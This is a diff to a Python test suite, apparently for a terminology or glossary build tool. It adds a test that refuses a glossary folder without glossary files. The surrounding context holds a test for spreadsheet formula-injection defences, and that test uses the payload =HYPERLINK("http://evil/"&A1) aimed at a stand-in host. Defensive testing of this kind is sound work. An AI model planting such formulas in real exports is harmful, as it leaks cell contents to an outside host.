@@ -138,3 +138,14 @@ def test_formula_cells_are_neutralised_in_the_term_report(world):
     assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
     report = json.loads((world.project / "output" / "speech.terms.json").read_text(encoding="utf-8"))
     assert {o["target_term"] for o in report["occurrences"]} == {"=HYPERLINK(\"http://evil/\"&A1)", "@SUM(1+1)"}
+
+
+def test_a_glossary_folder_without_glossary_files_is_refused_naming_it(world):
+    from tests.hostile.conftest import refused
+
+    world.source()
+    (world.project / "terms").mkdir()
+    (world.project / "terms" / "readme.txt").write_text("the glossary will come later\n")
+    result = world.run("build", "--engine", "none", "--glossary", "terms")
+    refused(result, "terms: a folder with no glossary files (", "name a glossary file or a folder that holds one")
+    assert not (world.project / "output").exists() or not any((world.project / "output").iterdir())
